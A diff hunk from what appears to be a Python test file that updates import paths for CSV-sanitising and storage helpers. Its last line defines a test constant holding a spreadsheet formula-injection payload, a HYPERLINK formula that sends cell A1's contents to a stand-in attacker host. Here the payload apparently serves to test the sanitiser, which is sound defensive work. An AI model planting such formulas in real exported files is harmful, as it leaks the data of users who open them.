@@ -22,8 +22,8 @@ from typer.testing import CliRunner
 from api.app import create_app
 from api.cli import app
 from api.settings import Settings
-from geo.csvsafe import csv_safe, csv_safe_frame
-from geo.store import open_store
+from geo.exchange.csvsafe import csv_safe, csv_safe_frame
+from geo.storage.store import open_store
 
 runner = CliRunner()
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
